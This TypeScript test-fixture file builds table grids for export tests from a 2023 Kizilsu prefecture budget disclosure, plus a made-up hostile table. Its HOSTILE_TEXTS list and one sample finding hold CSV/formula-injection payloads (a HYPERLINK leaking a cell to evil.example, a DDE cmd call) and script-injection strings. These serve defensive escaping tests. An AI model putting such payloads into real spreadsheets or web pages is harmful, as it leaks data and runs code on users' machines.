/**
 * Real-shaped grids for the export tests. Numbers and labels are copied from the seeds (seed 000: 克孜勒苏柯尔克孜
 * 自治州人民政府外事办公室 2023 年单位预算, 表2 and a 项目支出绩效目标表); the hostile table is made up to carry
 * every kind of text a page can put in a cell.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { Finding, Report, TableGrid } from '../../lib/model.ts';
import { buildGrid, gridFromFixture } from './build-grid.ts';

const F = '功能分类科目编码';
const G = '财 政 拨 款 ( 补 助 )';

/**
 * 表2 单位收入总体情况表 (seed 000, lines 109–129), cut to 8 columns: two header rows with merges (科目编码 over
 * 类/款/项, 财政拨款 over its parts, rowspan-2 labels), codes "201" / "03" / "01" / "50", blank cells, and split in
 * two pieces by a page break before the 合计 row, as the Word export of the page has it.
 */
export function incomeTable(): TableGrid {
  return buildGrid({
    id: 't1',
    index: 1,
    number: '2',
    title: '单位收入总体情况表',
    unit: '万元',
    meta: ['编制单位：克孜勒苏柯尔克孜自治州人民政府外事办公室', '单位：万元'],
    headRows: 2,
    spans: [
      { row: 0, col: 0, rowSpan: 1, colSpan: 3 },
      { row: 0, col: 3, rowSpan: 2, colSpan: 1 },
      { row: 0, col: 4, rowSpan: 2, colSpan: 1 },
      { row: 0, col: 5, rowSpan: 1, colSpan: 2 },
      { row: 0, col: 7, rowSpan: 2, colSpan: 1 },
    ],
    cells: [
      [F, '', '', '功能分类科目名称', '总 计', G, '', '单 位 资 金'],
      ['类', '款', '项', '', '', '财政拨款 (补助)小 计', '一般公共 预算', ''],
      ['201', '', '', '一般公共服务支出', '450.28', '353.26', '353.26', '97.02'],
      ['201', '03', '', '政府办公厅(室)及相关 机构事务', '450.28', '353.26', '353.26', '97.02'],
      ['201', '03', '01', '行政运行', '414.94', '317.92', '317.92', '97.02'],
      ['201', '03', '50', '事业运行', '35.34', '35.34', '35.34', ''],
      ['208', '', '', '社会保障和就业支出', '65.10', '65.10', '65.10', '-'],
      ['', '', '', '合 计', '515.38', '418.36', '418.36', '97.02'],
    ],
    pieceStarts: [7],
  });
}

/**
 * 项目支出绩效目标表 (seed 000, lines 432–459), first rows: no header rows, merges in the body (labels spanning
 * rows and columns, an amount spanning columns), and "=100%" — a real 指标值 that Excel would run as a formula.
 */
export function performanceTable(): TableGrid {
  return buildGrid({
    id: 't8',
    index: 8,
    title: '项目支出绩效目标表',
    kind: 'performance',
    headRows: 0,
    precision: 0,
    spans: [
      { row: 0, col: 1, rowSpan: 1, colSpan: 5 },
      { row: 1, col: 1, rowSpan: 1, colSpan: 3 },
      { row: 2, col: 2, rowSpan: 1, colSpan: 2 },
      { row: 4, col: 0, rowSpan: 3, colSpan: 1 },
      { row: 4, col: 1, rowSpan: 2, colSpan: 1 },
    ],
    cells: [
      ['预算单位', '克州人民政府外事办公室', '', '', '', ''],
      ['项目名称', '2023 年预计拨入边界维护专项经费', '', '', '项目负责人', '苟太阳'],
      ['项目资金 (万元)', '年度预算总额:', '90', '', '其中: 财政拨款', '90'],
      ['一级指标', '二级指标', '三级指标', '指标值', '上年完成值', '指标分值权重'],
      ['产出指标', '数量指标', '边界巡查调研次数', '≤4 次', '2 次', '5'],
      ['', '', '界碑界桩维护次数', '≤6 次', '2 次', '5'],
      ['', '质量指标', '资金保障率', '=100%', '=100%', '5'],
    ],
  });
}

export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
  // "+1" alone reads as the number 1 (parseCell takes a leading plus), so the DDE payload stands for it.
  "+1+cmd|' /C calc'!A0",
  '@x',
  '-2+3',
  '<script>alert(1)</script>',
  '"三公"经费',
  '行政\n运行',
  'a|b',
  'tab\there',
  'cr\rhere',
  '\t=1+1',
] as const;

/**
 * Every awkward cell in one table: thousand separators, negatives in both notations, a percent, blank markers,
 * an unreadable number, a 7-digit code, and the hostile texts above as row labels.
 */
export function hostileTable(): TableGrid {
  const labels = HOSTILE_TEXTS;
  const values = ['1,566.00', '-3.20', '（12.50）', '12.5%', '—', '', '12.3.4', '0.5', '1,234,567.89', '7', '100'];
  return buildGrid({
    id: 't2',
    index: 2,
    number: '3',
    title: '支出 <b>总体</b> 情况表 "测试"',
    unit: '元',
    meta: ['单位：元'],
    headRows: 1,
    precision: 2,
    cells: [
      ['科目编码', '项目', '金额', '备注'],
      ...labels.map((label, i) => ['2010301', label, values[i], i === 0 ? '03' : '']),
    ],
  });
}

/** Every table of the three seeds' fixture pages, as the grid builder should produce them. */
export function fixtureGrids(): { seed: string; title: string; tables: TableGrid[] }[] {
  const dir = fileURLToPath(new URL('../fixtures/pages', import.meta.url));
  return readdirSync(dir)
    .filter((f) => f.endsWith('.tables.json'))
    .sort()
    .map((f) => {
      const doc = JSON.parse(readFileSync(`${dir}/${f}`, 'utf8'));
      return { seed: doc.seed, title: doc.title, tables: doc.tables.map(gridFromFixture) };
    });
}

export const SAMPLE_URL = 'https://www.xjkz.gov.cn/xjkz/c112/202302/0a1b2c.shtml';
export const SAMPLE_TITLE = '克孜勒苏柯尔克孜自治州人民政府外事办公室2023年单位预算公开';

/**
 * A report on seed 000 with three findings: S000-XT-01 of domain/seed-findings.md (a 绩效目标表 books 单位资金 as
 * 财政拨款), the prose 97.01 vs 表2 97.02 that rounding explains, and a made-up finding on the hostile table whose
 * message, labels and quote carry markup and formulas.
 */
export function sampleReport(): Report {
  const income = incomeTable();
  const performance = performanceTable();
  const performance2 = performanceTable();
  performance2.id = 't9';
  performance2.index = 9;
  const hostile = hostileTable();
  const findings: Finding[] = [
    {
      id: 'f1',
      rule: 'performance-funding-source',
      severity: 'error',
      kind: 'contradiction',
      tableId: 't8',
      tableTitle: '项目支出绩效目标表',
      rowLabel: '项目资金 (万元)',
      colLabel: '其中: 财政拨款',
      stated: '90',
      expected: '0',
      diff: '90',
      message: '绩效目标表把单位资金 90 万元记作财政拨款；表5、表7 的一般公共预算项目支出为 0。',
      messageEn: 'The performance table books 90 (unit funds) as fiscal appropriation; tables 5 and 7 show no such spending.',
      cells: [
        { tableId: 't8', row: 2, col: 5 },
        { tableId: 't8', row: 2, col: 2 },
      ],
    },
    {
      id: 'f2',
      rule: 'prose-amount',
      severity: 'info',
      kind: 'rounding',
      tableId: 't1',
      tableTitle: '单位收入总体情况表',
      rowLabel: '行政运行',
      colLabel: '单 位 资 金',
      stated: '97.01',
      expected: '97.02',
      diff: '-0.01',
      message: '正文 97.01 万元与表2 97.02 万元相差 0.01，在四舍五入范围内。',
      messageEn: 'Text 97.01 vs table 97.02: within rounding.',
      cells: [{ tableId: 't1', row: 4, col: 7 }],
      quote: '非财政拨款项目 2 个，金额 97.01 万元。',
      textRefs: [{ block: 12, start: 0, end: 20 }],
    },
    {
      id: 'f3',
      rule: 'column-total',
      severity: 'warning',
      kind: 'mismatch',
      tableId: 't2',
      tableTitle: hostile.title,
      rowLabel: HOSTILE_TEXTS[0],
      colLabel: '金额',
      stated: '1566.00',
      expected: '1562.80',
      diff: '3.20',
      message: '<img src=x onerror=alert(1)> 合计不符 & "引号"',
      messageEn: 'Total </td></tr><script>alert(2)</script> mismatch',
      cells: [
        { tableId: 't2', row: 1, col: 2 },
        { tableId: 't2', row: 2, col: 2 },
      ],
      quote: '</textarea><script>alert("x")</script>\n第二行 | 竖线',
    },
  ];
  return {
    title: SAMPLE_TITLE,
    url: SAMPLE_URL,
    status: 'tables',
    tables: [income, performance, performance2, hostile],
    findings,
    tallies: [
      { tableId: 't1', checks: 20, passed: 19, rounding: 1, errors: 0, warnings: 0 },
      { tableId: 't8', checks: 3, passed: 2, rounding: 0, errors: 1, warnings: 0 },
      { tableId: 't2', checks: 2, passed: 1, rounding: 0, errors: 0, warnings: 1 },
    ],
    attachments: [],
  };
}
